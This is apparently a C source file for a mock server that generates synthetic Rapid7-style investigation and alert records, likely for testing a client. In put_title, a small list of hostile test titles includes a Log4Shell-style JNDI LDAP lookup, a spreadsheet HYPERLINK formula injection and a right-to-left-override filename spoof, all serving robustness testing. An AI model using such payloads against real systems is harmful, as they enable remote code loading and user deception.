#include <stdio.h>

#include "mocksrv/rapid7/r7_generate.h"
#include "mocksrv/rapid7/r7_world.h"
#include "sc/timefmt.h"

#define ALERT_PURPOSE   0x616c657274     /* "alert" */
#define PRODUCT_PURPOSE 0x70726f64756374 /* "product" */

const struct mock_generator mock_r7_generators[] = {
	{ "investigations", r7_investigation_record },
	{ "alerts", r7_alert_record },
	{ "product-alerts", r7_product_alert_record },
	{ "at-alerts", r7_at_alert_record },
	{ "evidences", r7_evidence_record },
	{ "actors", r7_actor_record },
	{ NULL, NULL },
};

static const char *
pick(struct mock_rng *r, const char *const *from, size_t n)
{
	return from[mock_rng_below(r, n)];
}
#define PICK(r, from) pick(r, from, sizeof(from) / sizeof((from)[0]))

static void
put_title(struct r7_incident *c, struct sc_jw *w)
{
	static const char *const hostile[] = { "",
		"Angriff auf \"Büro\"\n2. Zeile \\ <b>fett</b>",
		"${jndi:ldap://203.0.113.9/a} – проверка",
		"=HYPERLINK(\"http://login.example.net\";\"クリック\")",
		"\xe2\x80\xaegnp.exe\xe2\x80\xac reported on asset" };
	char title[256];

	if (c->number % 19 == 7) {
		mock_put_text(w, "title", PICK(&c->rng, hostile));
		return;
	}
	if (c->manual)
		(void)snprintf(title, sizeof(title), "Manual: %s, %s",
		    c->user->name, c->host);
	else if (c->number % 3 == 0)
		(void)snprintf(title, sizeof(title), "%s", c->rule->name);
	else
		(void)snprintf(title, sizeof(title), "%s: %s on %s",
		    c->rule->name, c->user->name, c->host);
	sc_jw_kv(w, "title", title);
}

static void
put_assignee(struct r7_incident *c, struct sc_jw *w)
{
	static const char *const names[] = { "Ellen Beispiel",
		"Jürgen Beispiel", "渡辺 例" };
	static const char *const mails[] = { "ellen@soc.example.com",
		"juergen@soc.example.com", "watanabe@soc.example.com" };
	size_t who = mock_rng_below(&c->rng, 3);

	if (mock_rng_percent(&c->rng, 40)) {
		mock_put_null(w, "assignee");
		return;
	}
	sc_jw_key(w, "assignee");
	sc_jw_obj(w);
	sc_jw_kv(w, "name", names[who]);
	sc_jw_kv(w, "email", mails[who]);
	sc_jw_end(w, '}');
}

static void
put_alert_times(
    const struct r7_incident *c, const struct mock_plan *p, struct sc_jw *w)
{
	uint64_t n = r7_alert_count(c, p);

	/* Some tell no times although they have alerts. */
	if (n == 0 || c->number % 23 == 8) {
		mock_put_null(w, "first_alert_time");
		mock_put_null(w, "latest_alert_time");
		return;
	}
	r7_put_time(w, "first_alert_time", r7_alert_time(c, p, 0), 3);
	r7_put_time(w, "latest_alert_time", r7_alert_time(c, p, n - 1), 3);
}

static const char *
priority_of(struct r7_incident *c)
{
	static const char *const none[] = { "UNSPECIFIED", "UNMAPPED" };
	static const char *const any[] = { "CRITICAL", "HIGH", "MEDIUM", "LOW",
		"UNKNOWN", "INFORMATIONAL" };

	if (c->manual)
		return PICK(&c->rng, none);
	if (mock_rng_percent(&c->rng, 15) || c->rule->priority[0] == 'I')
		return PICK(&c->rng, any);
	return c->rule->priority;
}

static void
put_last_part(struct r7_incident *c, struct sc_jw *w)
{
	static const char *const tags[] = { "Incident", "Security Test",
		"Überprüft", "a \"quoted\" tag" };
	static const char *const who[] = { "CUSTOMER", "MDR" };

	mock_put_text(w, "responsibility",
	    c->org->code != NULL ? PICK(&c->rng, who) : NULL);
	switch (mock_rng_below(&c->rng, 4)) {
	case 0:
		break;
	case 1:
		mock_put_null(w, "tags");
		break;
	case 2:
		r7_put_strings(w, "tags", tags, 0);
		break;
	default:
		r7_put_strings(w, "tags", tags + c->number % 3,
		    1 + mock_rng_below(&c->rng, 2));
	}
}

void
r7_investigation_record(const struct mock_plan *p, uint64_t i, struct sc_buf *b)
{
	static const char *const manual[] = { "USER", "MANUAL", "HUNT",
		"AUTOMATION" };
	static const char *const open[] = { "OPEN", "OPEN", "INVESTIGATING",
		"WAITING" };
	static const char *const closed[] = { "BENIGN", "MALICIOUS",
		"NOT_APPLICABLE", "UNKNOWN", "SECURITY_TEST",
		"FALSE_POSITIVE" };
	struct r7_incident c;
	struct sc_jw w;
	bool done;
	int64_t seen;

	r7_incident_make(&c, p, i);
	done = mock_rng_percent(&c.rng, 40);
	seen = c.created_us + (done ? 3600 * INT64_C(1000000) : 0);
	sc_jw_init(&w, b);
	sc_jw_obj(&w);
	sc_jw_kv(&w, "rrn", c.rrn);
	sc_jw_kv(&w, "organization_id", c.org->id);
	put_title(&c, &w);
	sc_jw_kv(&w, "source", c.manual ? PICK(&c.rng, manual) : "ALERT");
	sc_jw_kv(&w, "status", done ? "CLOSED" : PICK(&c.rng, open));
	sc_jw_kv(&w, "priority", priority_of(&c));
	r7_put_time(&w, "last_accessed", seen, 3);
	r7_put_time(&w, "created_time", c.created_us, 3);
	sc_jw_kv(&w, "disposition", done ? PICK(&c.rng, closed) : "UNDECIDED");
	put_assignee(&c, &w);
	put_alert_times(&c, p, &w);
	put_last_part(&c, &w);
	sc_jw_end(&w, '}');
}

/* The rule is told as null, as a string, or as an object. */
static void
put_rule(const struct r7_incident *c, uint64_t j, struct sc_jw *w)
{
	const struct r7_rule *rule = c->rule;
	char rrn[64];

	if (rule->code == NULL) {
		mock_put_null(w, "detection_rule_rrn");
		return;
	}
	(void)snprintf(
	    rrn, sizeof(rrn), "rrn:cba:::detection-rule:%s", rule->code);
	if ((c->number + j) % 3 == 0) {
		sc_jw_kv(w, "detection_rule_rrn", rrn);
		return;
	}
	sc_jw_key(w, "detection_rule_rrn");
	sc_jw_obj(w);
	sc_jw_kv(w, "rule_name", rule->name);
	sc_jw_kv(w, "rule_rrn", rrn);
	sc_jw_end(w, '}');
}

static void
put_alert(const struct r7_incident *c, struct mock_rng *r, uint64_t j,
    int64_t at, struct sc_jw *w)
{
	char uuid[MOCK_UUID_BUF], time[SC_TIME_BUF];
	bool events = mock_rng_percent(r, 60);

	mock_random_uuid(r, uuid);
	(void)sc_time_format(at, 3, time);
	sc_jw_obj(w);
	sc_jw_kv(w, "id", j == 0 && c->rule->code != NULL ? c->at_rrn : uuid);
	sc_jw_kv(w, "title", j % 2 == 0 ? c->rule->name : c->user->name);
	sc_jw_kv(w, "alert_type", c->rule->name);
	sc_jw_kv(w, "alert_type_description", c->rule->description);
	if (!mock_rng_percent(r, 20))
		sc_jw_kv(w, "alert_source", c->rule->source);
	sc_jw_kv(w, "created_time", time);
	if (events) {
		r7_put_time(w, "first_event_time", at - 61000000, 3);
		r7_put_time(w, "latest_event_time", at - 2000, 3);
	} else {
		mock_put_null(w, "first_event_time");
		mock_put_null(w, "latest_event_time");
	}
	put_rule(c, j, w);
	sc_jw_end(w, '}');
}

void
r7_alert_record(const struct mock_plan *p, uint64_t i, struct sc_buf *b)
{
	struct mock_rng r = mock_rng_key(p->seed, ALERT_PURPOSE, i);
	struct mock_plan incidents;
	uint64_t number = r7_incident_of(p, R7_ALERTS_EACH, i, &incidents);
	uint64_t j = i - number * R7_ALERTS_EACH;
	struct r7_incident c;
	struct sc_jw w;

	r7_incident_make(&c, &incidents, number);
	sc_jw_init(&w, b);
	sc_jw_obj(&w);
	sc_jw_kv(&w, "investigation", c.rrn);
	sc_jw_key(&w, "alert");
	put_alert(&c, &r, j, r7_alert_time(&c, &incidents, j), &w);
	sc_jw_end(&w, '}');
}

static void
put_threat_command(struct mock_rng *r, struct sc_jw *w)
{
	static const char *const reasons[] = { "ProblemSolved",
		"InformationalOnly", "Other" };
	char id[MOCK_UUID_BUF];

	mock_random_uuid(r, id);
	sc_jw_key(w, "threat_command_details");
	sc_jw_obj(w);
	sc_jw_kv(w, "alert_id", id);
	sc_jw_kv(w, "alert_type", "Phishing");
	r7_put_strings(
	    w, "applicable_close_reasons", reasons, mock_rng_below(r, 4));
	sc_jw_end(w, '}');
}

static void
put_agent_alert(struct mock_rng *r, struct sc_jw *w)
{
	char id[MOCK_UUID_BUF];

	mock_random_uuid(r, id);
	sc_jw_key(w, "insight_agent_details");
	sc_jw_arr(w);
	sc_jw_obj(w);
	sc_jw_kv(w, "alert_id", id);
	sc_jw_kv(w, "alert_type", "Endpoint Prevention");
	if (mock_rng_percent(r, 70))
		sc_jw_kv(w, "agent_action_taken", "Block");
	sc_jw_end(w, '}');
	sc_jw_end(w, ']');
}

void
r7_product_alert_record(const struct mock_plan *p, uint64_t i, struct sc_buf *b)
{
	/* The second is spelled in two ways. */
	static const char *const types[] = { "THREAT_COMMAND", "INSIGHT AGENT",
		"INSIGHT_AGENT" };
	struct mock_rng r = mock_rng_key(p->seed, PRODUCT_PURPOSE, i);
	size_t type = mock_rng_below(&r, 3);
	struct mock_plan incidents;
	struct r7_incident c;
	struct sc_jw w;

	r7_incident_make(&c, p, r7_incident_of(p, 1, i, &incidents));
	sc_jw_init(&w, b);
	sc_jw_obj(&w);
	sc_jw_kv(&w, "investigation", c.rrn);
	sc_jw_key(&w, "alert");
	sc_jw_obj(&w);
	sc_jw_kv(&w, "type", types[type]);
	if (type == 0)
		put_threat_command(&r, &w);
	if (type != 0 || mock_rng_percent(&r, 20))
		put_agent_alert(&r, &w);
	sc_jw_end(&w, '}');
	sc_jw_end(&w, '}');
}
